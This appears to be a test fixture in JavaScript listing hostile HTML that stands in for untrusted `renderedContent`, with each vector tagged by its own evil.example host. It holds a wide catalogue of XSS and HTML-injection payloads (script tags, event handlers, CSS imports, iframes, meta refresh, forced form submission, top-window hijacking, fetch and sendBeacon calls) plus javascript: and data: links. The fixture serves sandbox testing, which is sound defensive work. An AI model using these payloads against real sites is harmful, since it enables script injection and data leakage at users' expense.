// What `renderedContent` could hold if it did not come from Google. Each attempt has a host of its
// own, so that a request says which of them got through.

const at = (name) => `https://${name}.evil.example/${name}`;
const run = (name) => `try{(top.ran??=[]).push('${name}')}catch(e){}console.log('RAN ${name}')`;

/** Attempts that need no click. */
export const attack = `
<style>@import "${at("import")}";
  @import url(${at("import-url")});
  @font-face { font-family: f; src: url(${at("font")}) }
  body { background: url(${at("background")}); font-family: f; cursor: url(${at("cursor")}), auto }
  .container, .chip, .sentinel, body, html { position: fixed !important; inset: 0; z-index: 2147483647; color: rgb(1, 2, 3) !important; background: rgb(4, 5, 6) !important; transform: scale(9) }
  li { list-style-image: url(${at("bullet")}) } div { border-image-source: image-set(url(${at("image-set")}) 1x) }
  div::after { content: url(${at("content")}) } :root { --x: url(${at("custom")}) } b { mask: url(${at("mask")}#m); filter: url(${at("filter")}#f) }
</style>
<script>${run("script")}</script>
<script src="${at("script-src")}"></script>
<script type="module">${run("module")};import("${at("import-call")}")</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at("speculation")}"]}]}</script>
<img src="${at("img")}" onerror="${run("img-onerror")}">
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="${run("img-onload")}" onerror="${run("img-onerror-data")}">
<img srcset="${at("srcset")} 1x"><picture><source srcset="${at("picture")}"><img></picture>
<svg onload="${run("svg-onload")}" width="9" height="9"><image href="${at("svg-image")}" width="9" height="9"/><use href="${at("svg-use")}#a"/>
  <filter id="f"><feImage href="${at("fe-image")}"/></filter><rect filter="url(#f)" width="9" height="9"/>
  <script>${run("svg-script")}</script><animate onbegin="${run("svg-begin")}" attributeName="x" dur="1s"/><style>@import "${at("svg-import")}";</style></svg>
<body onload="${run("body-onload")}" onpageshow="${run("pageshow")}" background="${at("body-background")}">
<link rel="stylesheet" href="${at("stylesheet")}"><link rel="prefetch" href="${at("prefetch")}"><link rel="preload" as="image" href="${at("preload")}">
<link rel="modulepreload" href="${at("modulepreload")}"><link rel="icon" href="${at("icon")}"><link rel="manifest" href="${at("manifest")}">
<meta http-equiv="refresh" content="0;url=${at("refresh")}"><meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<base href="${at("base")}/" target="_top">
<form action="${at("form")}" method="post"><input name="a" value="b" autofocus onfocus="${run("autofocus")}"><input type="image" src="${at("input-image")}"><button>send</button></form>
<script>document.forms[0].submit()</script>
<iframe src="${at("iframe")}"></iframe><iframe srcdoc="<script>${run("srcdoc")}</script><img src='${at("srcdoc-img")}'>"></iframe>
<iframe src="javascript:${run("iframe-javascript")}"></iframe>
<iframe srcdoc="<meta http-equiv=refresh content='0;url=${at("nested-refresh")}'>" sandbox="allow-scripts allow-top-navigation"></iframe>
<frameset onload="${run("frameset")}"><frame src="${at("frame")}"></frameset>
<object data="${at("object")}"></object><object data="data:text/html,<script>${run("object-data")}</script>"></object><embed src="${at("embed")}">
<video poster="${at("poster")}" src="${at("video")}" autoplay muted onerror="${run("video-onerror")}"><track default src="${at("track")}"></video><audio src="${at("audio")}" autoplay></audio>
<video><source src="${at("video-source")}" onerror="${run("source-onerror")}"></video>
<table background="${at("table-background")}"><tr><td background="${at("td-background")}">x</table>
<details open ontoggle="${run("toggle")}">x</details><marquee onstart="${run("marquee")}">x</marquee>
<div style="background: url(${at("style-attribute")}); position: fixed; inset: -999px; z-index: 2147483647; animation: a 1s" onanimationstart="${run("animation")}">over everything</div>
<dialog open onclose="${run("dialog")}">dialog</dialog><ul><li>x</ul><b>x</b>
<div><template shadowrootmode="open"><img src="${at("shadow")}"></template></div>
<math><mtext><img src="${at("math-img")}" onerror="${run("math")}"></mtext></math>
<noscript><img src="${at("noscript")}"></noscript>
<script>top.location = "${at("top-location")}"; parent.document.body.innerHTML = ""; alert("RAN alert"); fetch("${at("fetch")}"); new Image().src = "${at("image")}"; navigator.sendBeacon("${at("beacon")}")</script>
<div class="container sentinel chip" id="sentinel">x</div>
<plaintext>`;

/** Links that attack when they are clicked. */
export const hostileLinks = `
<a id="top" target="_top" href="${at("click-top")}">top</a>
<a id="parent" target="_parent" href="${at("click-parent")}">parent</a>
<a id="javascript" href="javascript:${run("click-javascript")}">javascript</a>
<a id="javascript-self" target="_self" href="javascript:${run("click-javascript-self")}">self</a>
<a id="javascript-top" target="_top" href="javascript:${run("click-javascript-top")}">top</a>
<a id="javascript-named" target="named" rel="opener" href="javascript:opener.top.hit='named';console.log('RAN named')">named</a>
<a id="data" href="data:text/html,<script>${run("click-data")}</script>">data</a>
<a id="handler" href="${at("click-handler")}" onclick="${run("onclick")}">handler</a>
<a id="ping" href="${at("click-ping")}" ping="${at("ping")}">ping</a>
<form action="${at("click-form")}" target="_top"><button id="submit">send</button></form>
<button id="formaction" form="f" formaction="javascript:${run("formaction")}">send</button><form id="f"></form>`;
